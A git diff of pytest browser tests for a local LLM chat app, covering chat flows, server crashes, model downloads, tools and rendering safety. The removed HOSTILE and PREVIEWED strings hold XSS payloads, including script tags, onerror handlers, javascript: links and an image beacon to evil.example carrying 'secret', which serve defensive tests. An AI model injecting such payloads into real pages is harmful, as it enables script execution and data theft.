@@ -2,175 +2,228 @@
 
 from __future__ import annotations
 
-import ctypes
 import json
 import os
+import re
 import select
 import socket
 import subprocess
 import sys
 import urllib.request
-from collections.abc import Callable
+import zipfile
+from collections.abc import Callable, Mapping
 from pathlib import Path
+from typing import NamedTuple
 
 import pytest
+from config_files import ConfigFile
 from gguf_files import write_model
 from hub_process import FakeHub
-from page_fixtures import SIZE, Play, ServeFake, in_both
-from program import StartServer, http
+from page_fixtures import SIZE, Play, in_both
+from page_texts import ENDS, FOLDED, GROWING, HOSTILE, PREVIEWED, RIGHT_TO_LEFT, SPOKEN, TABLE
+from program import Server, StartServer, answer, http
 from waiting import wait
 
 from appliance.engines.embedded import available
-from appliance.engines.found import EMBEDDED, ENGINE_VARIABLE
+from appliance.engines.found import EMBEDDED
 
 ROOT = Path(__file__).resolve().parents[2]
+FAKE_MCP = {"s": {"command": sys.executable, "args": [str(ROOT / "tests" / "fakes" / "mcp_server.py")]}}
 COUNTING = {"FAKE_TOKENS": "400", "FAKE_TOKEN_DELAY": "0.05"}
-DEEP = ">" * 10_000
-HOSTILE = f"""<script>window.hit = 1</script>
-
-<img src=x onerror="window.hit=1"> <svg onload="window.hit=1"><animate attributeName=href></svg>
-
-![picture](https://evil.example/p.png?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>)
-
-[good](https://example.org/a) <javascript:alert(1)> <iframe srcdoc="<script>parent.hit=1</script>"></iframe>
-
-turned \u202eround \x1b[31mred\x1b[0m **half
-
-$$x^2 \\href{{javascript:alert(1)}}{{y}}$$
-
-{DEEP} deep
-
-```python
-def f(): return "<b>"
-```
-
-{"a" * 60_000}
-
-[ref][x] &#106;avascript:alert(1) [entity](&#106;avascript:hit) [tab](java\tscript:hit) [vb](vbscript:hit) [f](file:///etc)
-
-{"[" * 2000}{"**" * 2000}{"`" * 40_000}
-
-{"- " * 5000} list
-
-| a | b
-|--|--
-| <img src=x onerror=hit=1> | half
-
-> quote **without an end
-
-~~~html
-<script>window.hit = 1</script>
-[x]: javascript:hit
-"""
-PREVIEWED = """```html
-<!doctype html>
-<html lang="en" manifest="ELSEWHERE/manifest">
-<head>
-<title>A page</title>
-<meta http-equiv="refresh" content="0; url=ELSEWHERE/refresh">
-<meta http-equiv="x-dns-prefetch-control" content="on">
-<meta http-equiv="Content-Security-Policy" content="default-src 'self'; report-uri ELSEWHERE/report">
-<base href="ELSEWHERE/">
-<link rel="preconnect" href="ELSEWHERE"><link rel="dns-prefetch" href="//NAME">
-<link rel="prefetch" href="ELSEWHERE/prefetch"><link rel="preload" as="image" href="ELSEWHERE/preload">
-<link rel="modulepreload" href="ELSEWHERE/module"><link rel="stylesheet" href="ELSEWHERE/style">
-<link rel="icon" href="ELSEWHERE/icon"><link rel="manifest" href="ELSEWHERE/manifest">
-<script type="speculationrules">{"prerender": [{"urls": ["ELSEWHERE/rules"]}]}</script>
-<style>
-@import "ELSEWHERE/import"; @import url(ELSEWHERE/import2);
-@font-face { font-family: f; src: url(ELSEWHERE/font); }
-h1 { color: rgb(1, 2, 3); font-family: f; background: url(ELSEWHERE/background); cursor: url(ELSEWHERE/cursor), auto; }
-p { list-style: url(ELSEWHERE/list); content: url(ELSEWHERE/content); mask: url(ELSEWHERE/mask#m); }
-p::before { content: image-set("ELSEWHERE/set" 1x); } b { filter: url(ELSEWHERE/filter#f); }
-@namespace svg url(ELSEWHERE/namespace);
-</style>
-</head>
-<body background="ELSEWHERE/body" onload="reach('onload')">
-<h1>A page</h1><p>text</p><b>bold</b><a id="inner" href="#inner">inside</a>
-<a href="ELSEWHERE/link" ping="ELSEWHERE/ping" target="_top">link</a> <a href="//NAME/">name</a>
-<a href="javascript:reach('link')">script</a> <a href="data:text/html,<script>opener.hit=1</script>">data</a>
-<map name="m"><area href="ELSEWHERE/area" shape="default"></map>
-<img alt="1" usemap="#m" src="ELSEWHERE/image" srcset="ELSEWHERE/set 2x" lowsrc="ELSEWHERE/low"
-longdesc="ELSEWHERE/long">
-<img alt="2" src="x" onerror="reach('onerror')"><img alt="5" src="//NAME/image">
-<picture><source srcset="ELSEWHERE/source"><img alt="3"></picture>
-<video src="ELSEWHERE/video" poster="ELSEWHERE/poster" autoplay></video><audio src="ELSEWHERE/audio" autoplay></audio>
-<track src="ELSEWHERE/track"><input type="image" alt="4" src="ELSEWHERE/input"><embed src="ELSEWHERE/embed">
-<object data="ELSEWHERE/object"><param name="movie" value="ELSEWHERE/param"></object>
-<applet archive="ELSEWHERE/a"></applet>
-<iframe src="ELSEWHERE/iframe"></iframe><iframe srcdoc="<link rel=preconnect href=ELSEWHERE>"></iframe>
-<frameset><frame src="ELSEWHERE/frame"></frameset><fencedframe src="ELSEWHERE/fenced"></fencedframe>
-<form id="f" action="ELSEWHERE/form" method="post"><input name="q" autofocus onfocus="this.form.submit()">
-<button formaction="ELSEWHERE/button">send</button></form><button form="f" formaction="ELSEWHERE/other">other</button>
-<svg width="9" height="9"><image href="ELSEWHERE/svg"/><use href="ELSEWHERE/use#u"/><feImage href="ELSEWHERE/fe"/>
-<a href="ELSEWHERE/svglink"><text y="9">t</text></a><script href="ELSEWHERE/svgscript"></script>
-<animate attributeName="href" to="ELSEWHERE/animate" begin="0s"/><set attributeName="href" to="ELSEWHERE/set"/>
-<foreignObject><iframe src="ELSEWHERE/foreign"></iframe></foreignObject>
-<style>@import "ELSEWHERE/svgstyle";</style></svg>
-<math><mi href="ELSEWHERE/math">x</mi>
-<annotation-xml encoding="text/html"><img src="ELSEWHERE/mathimage"></annotation-xml></math>
-<template shadowrootmode="open"><link rel="preconnect" href="ELSEWHERE"></template>
-<noscript><p title="</noscript><img src=ELSEWHERE/noscript>"></noscript>
-<form><math><mtext></form><form><mglyph><style></math><img src="ELSEWHERE/mutated" onerror="reach('mutated')">
-<table background="ELSEWHERE/table"><tr><td background="ELSEWHERE/td">cell</td></tr></table>
-<blockquote cite="ELSEWHERE/cite">q</blockquote><p style="background: url(ELSEWHERE/inline)">styled</p>
-<script src="ELSEWHERE/script"></script>
-<script>
-const reach = (what) => {
-  document.documentElement.dataset.ran = what;
-  fetch("ELSEWHERE/fetch").catch(() => 0); fetch("http://NAME/fetch").catch(() => 0);
-  navigator.sendBeacon("ELSEWHERE/beacon");
-  new WebSocket("ELSEWHERE/socket".replace("http", "ws")); new EventSource("ELSEWHERE/events");
-  document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: "ELSEWHERE" }));
-  const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:PLACE" }] });
-  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));
-  window.open("ELSEWHERE/open"); top.location = "ELSEWHERE/top";
-};
-reach("script");
-</script>
-</body></html>
-```
-"""
-"""The ways from markup, styles and scripts to another host: a request, a connection, or the look for its name."""
-RIGHT_TO_LEFT = (
-    "مرحبا، هذا **نص** طويل بما يكفي ليملأ السطر كله.\n\n```python\ndef f(): return 'x'\n```\n\n" + "שלום עולם " * 40
+BRIEF = {"FAKE_TOKENS": "60", "FAKE_TOKEN_DELAY": "0.05"}
+ENDLESS = {"FAKE_TOKENS": "4000", "FAKE_TOKEN_DELAY": "0.02"}
+REFUSAL = "request (9000 tokens) exceeds the available context size (4096 tokens), try increasing it"
+OTHERS = ("--model", "other.gguf", "--model", "third.gguf")
+STEEPEST = {"parts": 2, "code": 2, "list": 2, "table": 2.5}
+"""How much more a frame may cost late in each: a table is laid out as a whole, because its columns fit all rows."""
+DEMO_ANSWERS = (
+    "Llama Appliance is a program",
+    "Your text stays on this computer",
+    "GGUF is a file",
+    "Once upon a time",
 )
-CODE = "```python\ndef f(): return 1\n```"
+WORD_NAMES = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 LAN = "192.0.2.1"
-CLONE_NEWNET = 0x40000000
+CUT_OFF = f'ip link set lo up; ip address add {LAN}/32 dev lo; exec "$@"'
+MICROPHONE = "BROWSER_ARGS=--use-fake-device-for-media-stream"
+ALLOWED = f"{MICROPHONE} --use-fake-ui-for-media-stream --autoplay-policy=no-user-gesture-required"
+
+
+def says(*turns: Mapping[str, object]) -> dict[str, str]:
+    """The environment in which the engine says this, turn by turn."""
+    return {"FAKE_SCRIPT": json.dumps(turns)}
+
+
+def call(number: int, name: str, **arguments: str) -> dict[str, object]:
+    return {"calls": [{"name": name, "id": f"c{number}", "arguments": json.dumps(arguments)}]}
+
+
+class Scenario(NamedTuple):
+    """One that needs nothing but a server with these words in this environment."""
+
+    name: str
+    words: tuple[str, ...] = ()
+    env: Mapping[str, str] = {}
+    both: bool = False
+    """It is one of the main flows, and runs in both browsers."""
+
+
+SCENARIOS = [
+    # An answer goes on through a reload, and is stopped from another device.
+    Scenario("talking.resume", env=COUNTING),
+    # An answer is complete although the page was closed.
+    Scenario("talking.closed", env=BRIEF, both=True),
+    # A line of a megabyte stops nothing.
+    Scenario("talking.long", env={"FAKE_TOKENS": "64", "FAKE_TOKEN_SIZE": str(1 << 14)}),
+    # Two models answer side by side.
+    Scenario("talking.compare", OTHERS[:2]),
+    # A browser keeps what the server does not.
+    Scenario("talking.here", ("--no-conversations",), BRIEF),
+    # A random walk through the tree; SEED chooses another one.
+    Scenario("talking.walk", env={"FAKE_TOKENS": "12", "FAKE_TOKEN_DELAY": "0.03"}, both=True),
+    # A context is not full after a summary.
+    Scenario("talking.summed"),
+    # German and dark are chosen under settings.
+    Scenario("screens.german", both=True),
+    # From right to left, and at double size.
+    Scenario("screens.layouts", env=says({"text": RIGHT_TO_LEFT})),
+    # Below a path of a proxy.
+    Scenario("screens.prefix"),
+    # A large conversation and a fast answer. The figures are in docs/page.md; ``-s`` shows them.
+    Scenario("screens.large", env={"FAKE_TOKENS": "20000", "FAKE_TOKEN_DELAY": "0.005"}),
+    # A key is asked for once, and kept for the tab.
+    Scenario("screens.key", ("--api-key", "secret")),
+    Scenario("finding.key", ("--api-key", "secret")),
+    # Parameters, presets and commands.
+    Scenario("questions.settings"),
+    # Prompts, resources and tools of an MCP server.
+    Scenario(
+        "questions.mcp",
+        ("--mcp-servers-json", json.dumps({"mcpServers": FAKE_MCP})),
+        says(call(1, "s_echo", message="hello"), {"text": "All is said."}),
+    ),
+    # Models are loaded and unloaded.
+    Scenario("models.models", both=True),
+    # A hit opens its conversation at its message.
+    Scenario("finding.hits", both=True),
+    # Parts of words are found where the browser keeps them.
+    Scenario("finding.here", ("--no-conversations",)),
+    # A thousand conversations need no mouse. The figures are in docs/page.md; ``-s`` shows them.
+    Scenario("finding.keys", both=True),
+    # Nothing lies on the composer.
+    Scenario("finding.looks"),
+    # The console stays empty.
+    Scenario("finding.quiet", env=COUNTING, both=True),
+    Scenario("finding.quiet", ("--no-conversations",), COUNTING, both=True),
+    # An answer is asked for although news of it come first.
+    Scenario("keeping.overtaken"),
+    # Nothing is stored of a question that cannot be asked.
+    Scenario("keeping.refused"),
+    # Every stored conversation opens.
+    Scenario("keeping.odd"),
+    # Stop ends everything that was asked.
+    Scenario("keeping.stops", OTHERS, ENDLESS, both=True),
+    # A fast answer is followed to its end.
+    Scenario("keeping.scrolling", env={"FAKE_TOKENS": "1500", "FAKE_TOKEN_DELAY": "0.0005"}, both=True),
+    # The view stays where somebody reads.
+    Scenario("keeping.reading", env={"FAKE_TOKENS": "9000", "FAKE_TOKEN_DELAY": "0.005"}),
+    # A full context can be summed up.
+    Scenario(
+        "keeping.full",
+        env=says(
+            {"text": "One."},
+            {"raw": f"data: {json.dumps({'error': {'code': 400, 'message': REFUSAL}})}\n\n", "done": False},
+        ),
+    ),
+    # Nothing that a model writes is more than text.
+    Scenario("output.hostile", env=says({"text": HOSTILE})),
+    # No word of a table is broken.
+    Scenario("output.tables", env=says({"text": TABLE}), both=True),
+    # Details fold while they come, and afterwards.
+    Scenario("output.folds", env=says({"text": FOLDED, "pace": 0.05})),
+    # An answer says what it is at.
+    Scenario("starting.phases", env={"FAKE_LOAD_DELAY": "3", "FAKE_SLOW_PROMPT": "1", "FAKE_STALL_AFTER_TOKENS": "5"}),
+    # A caret stands at the end of the text.
+    Scenario("starting.carets", env=says(*({"text": text, "stall": True} for text in ENDS))),
+    # Several conversations are saved and deleted.
+    Scenario("others.several"),
+]
+RUNS = [
+    pytest.param(scenario, browser, marks=pytest.mark.needs("firefox") if browser == "firefox" else ())
+    for scenario in SCENARIOS
+    for browser in (("chromium", "firefox") if scenario.both else (os.environ.get("PAGE_BROWSER", "chromium"),))
+]
+
+
+@pytest.fixture
+def notes(tmp_path: Path) -> Path:
+    """A file that the tools may write, and that is not there yet."""
+    (tmp_path / "files").mkdir()
+    return tmp_path / "files" / "note.txt"
+
+
+@pytest.mark.parametrize(("scenario", "browser"), RUNS, ids=lambda value: getattr(value, "name", value))
+def test_a_scenario(play: Play, serve_fake: StartServer, scenario: Scenario) -> None:
+    play(scenario.name, serve_fake(*scenario.words, **scenario.env))
 
 
 @pytest.mark.parametrize("scenario", ["talking.chat", "screens.screens", "talking.compact"])
-def test_with_the_starter_model(play: Play, start_server: StartServer, scenario: str) -> None:
+def test_with_the_starter_model(play: Play, serve: StartServer, scenario: str) -> None:
     if not available():
         pytest.skip("the embedded engine is not on this machine")
-    words = ("serve", "--listen", "127.0.0.1:0", "--engine", EMBEDDED, "--threads", "1", "--no-stores")
-    play(scenario, start_server(*words))
+    play(scenario, serve("--no-stores", engine=EMBEDDED))
 
 
-def test_an_answer_goes_on_through_a_reload_and_is_stopped_from_another_device(
-    play: Play, serve_fake: ServeFake
+# ---- servers and engines that die ------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def killable(serve_fake: StartServer) -> Callable[..., tuple[Server, dict[str, Callable[[], object]]]]:
+    """A server, and the steps that kill it and start it again at its place."""
+
+    def start(**env: str) -> tuple[Server, dict[str, Callable[[], object]]]:
+        running: list[Server] = [serve_fake(**env)]
+        place = f"{running[0].host}:{running[0].port}"
+
+        def kill() -> None:
+            running[-1].process.kill()
+            running[-1].process.wait(10)
+
+        return running[0], {"kill": kill, "start": lambda: running.append(serve_fake(listen=place, **env))}
+
+    return start
+
+
+@pytest.mark.parametrize("existing", ["0", "1"])
+@pytest.mark.parametrize("after", ["0", "1"])
+def test_a_kill_at_any_request_loses_no_question(
+    play: Play, killable: Callable[..., tuple[Server, dict[str, Callable[[], object]]]], after: str, existing: str
 ) -> None:
-    play("talking.resume", serve_fake(**COUNTING))
+    """``after``: the server has the request, and the page does not hear of it."""
+    server, steps = killable()
+    play("keeping.between", server, within=("env", f"AFTER={after}", f"EXISTING={existing}"), **steps)
 
 
 @in_both
-def test_an_answer_is_complete_though_the_page_was_closed(play: Play, serve_fake: ServeFake) -> None:
-    play("talking.closed", serve_fake(FAKE_TOKENS="60", FAKE_TOKEN_DELAY="0.05"))
+@pytest.mark.parametrize(
+    ("scenario", "env"),
+    [
+        ("talking.killed", {"FAKE_TOKENS": "200", "FAKE_TOKEN_DELAY": "0.05"}),
+        ("keeping.drafts", ENDLESS),
+        ("keeping.rescued", ENDLESS),
+    ],
+)
+def test_a_dead_server_takes_nothing_along(
+    play: Play,
+    killable: Callable[..., tuple[Server, dict[str, Callable[[], object]]]],
+    scenario: str,
+    env: dict[str, str],
+) -> None:
+    server, steps = killable(**env)
+    play(scenario, server, **steps)
 
 
-def test_the_page_outlives_a_killed_program(play: Play, serve_fake: ServeFake) -> None:
-    server = serve_fake(FAKE_TOKENS="200", FAKE_TOKEN_DELAY="0.05")
-    place = f"{server.host}:{server.port}"
-
-    def kill() -> None:
-        server.process.kill()
-        server.process.wait(10)
-
-    play("talking.killed", server, kill=kill, start=lambda: serve_fake(listen=place))
-
-
-def test_the_page_outlives_a_killed_engine(play: Play, serve_fake: ServeFake) -> None:
+def test_the_page_outlives_a_killed_engine(play: Play, serve_fake: StartServer) -> None:
     server = serve_fake(FAKE_TOKENS="200", FAKE_TOKEN_DELAY="0.05")
 
     def kill() -> None:
@@ -182,12 +235,11 @@ def test_the_page_outlives_a_killed_engine(play: Play, serve_fake: ServeFake) ->
     play("talking.engine", server, kill=kill)
 
 
-def test_nothing_that_a_model_writes_is_more_than_text(play: Play, serve_fake: ServeFake) -> None:
-    play("output.hostile", serve_fake(FAKE_SCRIPT=json.dumps([{"text": HOSTILE}])))
+# ---- what reaches beyond the page ------------------------------------------------------------------------------------
 
 
 def test_a_preview_of_html_reaches_nothing(
-    play: Play, serve_fake: ServeFake, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    play: Play, serve_fake: StartServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Not even a connection, or the look for a name; the same HTML outside of the preview does all that."""
     log = tmp_path / "net.json"
@@ -198,201 +250,95 @@ def test_a_preview_of_html_reaches_nothing(
     ):
         place = f"127.0.0.1:{elsewhere.getsockname()[1]}"
         datagrams.bind(elsewhere.getsockname())
-        elsewhere.setblocking(False)
-        datagrams.setblocking(False)
+        reached = [elsewhere, datagrams]
 
         def nothing() -> None:
-            with pytest.raises(BlockingIOError):
-                elsewhere.accept()
-            with pytest.raises(BlockingIOError):
-                datagrams.recv(1)
+            assert select.select(reached, [], [], 0)[0] == []
 
         def everything() -> None:
-            wait(lambda: socket_is_ready(elsewhere) and socket_is_ready(datagrams))
+            wait(lambda: select.select(reached, [], [], 0)[0] == reached)
 
-        text = (
-            PREVIEWED.replace("ELSEWHERE", f"http://{place}").replace("PLACE", place).replace("NAME", "preview.example")
-        )
-        play(
-            "output.preview",
-            serve_fake(FAKE_SCRIPT=json.dumps([{"text": text}])),
-            nothing=nothing,
-            everything=everything,
-        )
+        text = PREVIEWED.replace("ELSEWHERE", f"http://{place}").replace("PLACE", place)
+        server = serve_fake(**says({"text": text.replace("NAME", "preview.example")}))
+        play("output.preview", server, nothing=nothing, everything=everything)
     found = log.read_text("utf-8", "replace")
     assert "control.example" in found
     assert "preview.example" not in found
 
 
-def socket_is_ready(listening: socket.socket) -> bool:
-    return bool(select.select([listening], [], [], 0)[0])
-
-
-def test_a_line_of_a_megabyte_stops_nothing(play: Play, serve_fake: ServeFake) -> None:
-    play("talking.long", serve_fake(FAKE_TOKENS="64", FAKE_TOKEN_SIZE=str(1 << 14)))
-
-
-@in_both
-def test_german_and_dark_are_chosen_under_settings(play: Play, serve_fake: ServeFake) -> None:
-    play("screens.german", serve_fake())
-
-
-def test_right_to_left_and_at_double_size(play: Play, serve_fake: ServeFake) -> None:
-    play("screens.layouts", serve_fake(FAKE_SCRIPT=json.dumps([{"text": RIGHT_TO_LEFT}])))
-
-
-def test_below_a_path_of_a_proxy(play: Play, serve_fake: ServeFake) -> None:
-    play("screens.prefix", serve_fake())
-
-
 @pytest.mark.needs("namespaces", "ip", "nsenter")
-def test_on_plain_http_without_a_network(play: Play, serve_fake: ServeFake) -> None:
-    def cut_off() -> None:
-        if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNET):
-            raise OSError(ctypes.get_errno(), "unshare")
-        subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
-        subprocess.run(["ip", "address", "add", f"{LAN}/32", "dev", "lo"], check=True)
-
-    script = json.dumps([{"text": CODE}])
-    server = serve_fake("--api-key", "secret", listen=f"{LAN}:0", limited=cut_off, FAKE_SCRIPT=script)
+def test_on_plain_http_without_a_network(play: Play, serve_fake: StartServer) -> None:
+    server = serve_fake(
+        "--api-key", "secret", listen=f"{LAN}:0", under=("unshare", "--net", "sh", "-c", CUT_OFF, "sh"),
+        **says({"text": "```python\ndef f(): return 1\n```"}),
+    )  # fmt: skip
     inside = ("nsenter", f"--net=/proc/{server.process.pid}/ns/net")
     play("screens.lan", server, "--insecure", within=inside)
 
 
-def test_a_model_is_fetched_and_paused(play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path) -> None:
+# ---- the hub, and the first minutes ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def from_hub(hub: FakeHub, tmp_path: Path) -> dict[str, str]:
+    return {"MODEL_ENDPOINT": hub.url, "HF_HUB_CACHE": str(tmp_path / "cache")}
+
+
+def test_a_model_is_fetched_and_paused(
+    play: Play, serve_fake: StartServer, hub: FakeHub, from_hub: dict[str, str]
+) -> None:
     whole = (hub.root / "acme/big-GGUF" / "big-Q8_0.gguf").stat().st_size
     hub.behave(rate=2_000_000)
-    server = serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache"))
 
     def paused() -> None:
         assert 0 < hub.sent() < whole
 
-    play("models.pull", server, came=lambda: wait(lambda: hub.sent() > SIZE // 16), paused=paused, fast=hub.behave)
+    came = {"came": lambda: wait(lambda: hub.sent() > SIZE // 16), "paused": paused, "fast": hub.behave}
+    play("models.pull", serve_fake(**from_hub), **came)
     assert hub.sent() < 2 * whole
 
 
 @in_both
 def test_the_first_model_and_the_first_question(
-    play: Play, start_server: StartServer, fake_engine: Path, hub: FakeHub, tmp_path: Path
+    play: Play, serve: StartServer, hub: FakeHub, from_hub: dict[str, str]
 ) -> None:
-    words = ("serve", "--listen", "127.0.0.1:0", "--no-starter", "--no-stores")
-    env = {ENGINE_VARIABLE: str(fake_engine), "HF_HUB_CACHE": str(tmp_path / "cache"), "MODEL_ENDPOINT": hub.url}
     hub.behave(rate=4_000_000)
-    play("models.first", start_server(*words, env=env), coming=hub.behave)
+    play("models.first", serve("--no-starter", "--no-stores", **from_hub), coming=hub.behave)
 
 
-def test_the_first_run_without_a_hub(play: Play, start_server: StartServer, fake_engine: Path) -> None:
-    words = ("serve", "--listen", "127.0.0.1:0", "--no-starter", "--no-stores")
-    play("models.offline", start_server(*words, env={ENGINE_VARIABLE: str(fake_engine), "HF_HUB_OFFLINE": "1"}))
+def test_the_first_run_without_a_hub(play: Play, serve: StartServer) -> None:
+    play("models.offline", serve("--no-starter", "--no-stores", HF_HUB_OFFLINE="1"))
 
 
-def test_what_fits_and_a_search_of_the_hub(play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path) -> None:
-    play("models.hub", serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache")))
-
-
-def test_a_large_conversation_and_a_fast_answer(play: Play, serve_fake: ServeFake) -> None:
-    """Its figures are in docs/page.md; ``-s`` shows them."""
-    play("screens.large", serve_fake(FAKE_TOKENS="20000", FAKE_TOKEN_DELAY="0.005"))
-
-
-def test_files_and_parameters_reach_the_model(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
-    write_model(tmp_path / "models" / "watcher" / "watcher.gguf")
-    projector = {"clip__has_vision_encoder": True, "clip__has_audio_encoder": True}
-    write_model(tmp_path / "models" / "watcher" / "mmproj-F16.gguf", architecture="clip", **projector)
-    play("questions.files", serve_fake("--models-dir", "models", FAKE_SCRIPT='[{"echo": true}]'))
-
-
-def test_parameters_presets_and_commands(play: Play, serve_fake: ServeFake) -> None:
-    play("questions.settings", serve_fake())
-
-
-def test_two_models_answer_side_by_side(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
-    write_model(tmp_path / "other.gguf")
-    play("talking.compare", serve_fake("--model", "other.gguf"))
-
-
-def test_a_tool_that_writes_is_asked_for(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
-    note = tmp_path / "files" / "note.txt"
-    note.parent.mkdir()
-
-    def call(number: int, name: str, **arguments: str) -> dict[str, object]:
-        return {"calls": [{"name": name, "id": f"c{number}", "arguments": json.dumps(arguments)}]}
-
-    script = [
-        call(1, "write_file", path="note.txt", content="hi"),
-        call(2, "read_file", path="note.txt"),
-        call(3, "write_file", path="note.txt", content="again"),
-        {"text": "All is written."},
-    ]
-    tools = ("--tools", "write_file,read_file", "--tools-root", str(note.parent))
-
-    def asked() -> None:
-        assert not note.exists()
-
-    def written() -> None:
-        assert note.read_text() == "again"
-        note.write_text("hi")
-
-    play("questions.tools", serve_fake(*tools, FAKE_SCRIPT=json.dumps(script)), asked=asked, written=written)
-
-
-def test_prompts_resources_and_tools_of_an_mcp_server(play: Play, serve_fake: ServeFake) -> None:
-    call = {"name": "s_echo", "id": "c1", "arguments": '{"message": "hello"}'}
-    servers = {"s": {"command": sys.executable, "args": [str(ROOT / "tests" / "fakes" / "mcp_server.py")]}}
-    more = ("--mcp-servers-json", json.dumps({"mcpServers": servers}))
-    play("questions.mcp", serve_fake(*more, FAKE_SCRIPT=json.dumps([{"calls": [call]}, {"text": "All is said."}])))
-
-
-def test_a_browser_keeps_what_the_server_does_not(play: Play, serve_fake: ServeFake) -> None:
-    play("talking.here", serve_fake("--no-conversations", FAKE_TOKENS="60", FAKE_TOKEN_DELAY="0.05"))
+def test_what_fits_and_a_search_of_the_hub(play: Play, serve_fake: StartServer, from_hub: dict[str, str]) -> None:
+    play("models.hub", serve_fake(**from_hub))
 
 
 @in_both
-def test_a_random_walk_through_the_tree(play: Play, serve_fake: ServeFake, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("SEED", os.environ.get("SEED", "7"))
-    play("talking.walk", serve_fake(FAKE_TOKENS="12", FAKE_TOKEN_DELAY="0.03"))
-
-
-def test_a_key_is_asked_for_once(play: Play, serve_fake: ServeFake) -> None:
-    play("screens.key", serve_fake("--api-key", "secret"))
-
-
-@in_both
-def test_models_are_loaded_and_unloaded(play: Play, serve_fake: ServeFake) -> None:
-    play("models.models", serve_fake())
-
-
-@pytest.mark.needs("node", "page-packages")
-def test_the_development_server_stands_in_front_of_a_running_one(
-    serve_fake: ServeFake, free_port: Callable[[], int]
+@pytest.mark.parametrize("scenario", ["starting.dismissed", "starting.tried", "starting.real", "starting.carried"])
+def test_the_demo_is_not_taken_for_a_model(
+    play: Play, serve: StartServer, hub: FakeHub, from_hub: dict[str, str], scenario: str
 ) -> None:
-    vite = ROOT / "appliance" / "web" / "node_modules" / ".bin" / "vite"
-    server, port = serve_fake(), free_port()
-    command = [str(vite), "--host", "127.0.0.1", "--port", str(port), "--strictPort"]
-    with subprocess.Popen(
-        command,
-        cwd=ROOT / "appliance" / "web",
-        env={**os.environ, "LLAMA_APPLIANCE_URL": server.url, "NO_COLOR": "1"},
-        stdin=subprocess.DEVNULL,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.STDOUT,
-    ) as process:
-        assert process.stdout is not None
-        try:
-            while b"Local:" not in (line := process.stdout.readline()):
-                assert line, "it has ended"
-            # The page, a part of it, which is compiled when it is asked for, and what the server behind it says.
-            for path, words in (("/", b"/src/main.ts"), ("/src/App.svelte", b"svelte"), ("/v1/models", b'"small"')):
-                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=60) as answer:
-                    assert words in answer.read(), path
-        finally:
-            process.kill()
+    """As it is after the installation. Without a hub the cards say what to carry."""
+    play(scenario, serve("--no-stores", **from_hub), gone=hub.stop)
 
 
-def test_every_question_of_the_page_can_be_left(
-    play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path
-) -> None:
-    server = serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache"))
+def test_the_demo_answers_the_questions_that_the_page_offers(serve: StartServer) -> None:
+    """The first words of its answers: it has one for each thing that it knows."""
+    if not available():
+        pytest.skip("the embedded engine is not on this machine")
+    server = serve("--no-stores", engine=EMBEDDED)
+    for language in ("en", "de"):
+        text = (ROOT / "appliance" / "web" / "src" / "i18n" / f"{language}.ts").read_text("utf-8")
+        asked = re.findall(r'^  demo\d: "(.*)",$', text, re.MULTILINE)
+        for question, begin in zip(asked, DEMO_ANSWERS, strict=True):
+            messages = [{"role": "user", "content": question}]
+            said = answer(server, "/v1/chat/completions", model="starter", messages=messages)
+            assert said["choices"][0]["message"]["content"].startswith(begin), question
+
+
+def test_every_question_of_the_page_can_be_left(play: Play, serve_fake: StartServer, from_hub: dict[str, str]) -> None:
+    server = serve_fake(**from_hub)
     http(server, "POST", "/models", {"model": "acme/big-GGUF:Q8_0"})
 
     def kept() -> None:
@@ -401,20 +347,111 @@ def test_every_question_of_the_page_can_be_left(
     play("questions.dialogs", server, kept=kept)
 
 
-def test_a_context_is_not_full_after_a_summary(play: Play, serve_fake: ServeFake) -> None:
-    play("talking.summed", serve_fake())
+# ---- files, tools, speech --------------------------------------------------------------------------------------------
 
 
-def test_a_tools_question_is_noticed_and_not_answered_by_chance(
-    play: Play, serve_fake: ServeFake, tmp_path: Path
-) -> None:
-    note = tmp_path / "files" / "note.txt"
-    note.parent.mkdir()
-    call = {"name": "write_file", "id": "c1", "arguments": json.dumps({"path": "note.txt", "content": "hi"})}
-    script = [{"calls": [call]}, {"text": "Fine."}, {"calls": [{**call, "id": "c2"}]}]
+def test_files_and_parameters_reach_the_model(play: Play, serve_fake: StartServer, tmp_path: Path) -> None:
+    write_model(tmp_path / "models" / "watcher" / "watcher.gguf")
+    projector = {"clip__has_vision_encoder": True, "clip__has_audio_encoder": True}
+    write_model(tmp_path / "models" / "watcher" / "mmproj-F16.gguf", architecture="clip", **projector)
+    play("questions.files", serve_fake("--models-dir", "models", FAKE_SCRIPT='[{"echo": true}]'))
+
+
+def test_an_answer_in_the_queue_says_its_place(play: Play, serve_fake: StartServer, tmp_path: Path) -> None:
+    write_model(tmp_path / "models" / "other.gguf")
+    slow = {"FAKE_TOKENS": "4000", "FAKE_TOKEN_DELAY": "0.05", "FAKE_LOAD_DELAY": "1"}
+    play("starting.queued", serve_fake("--models-dir", "models", "--models-max", "1", **slow))
+
+
+@in_both
+def test_a_word_document_is_read(play: Play, serve_fake: StartServer, tmp_path: Path) -> None:
+    body = (
+        '<w:p><w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:r><w:t>Zebra</w:t></w:r></w:p>'
+        "<w:p><w:r><w:t>Grüße</w:t></w:r></w:p>"
+    )
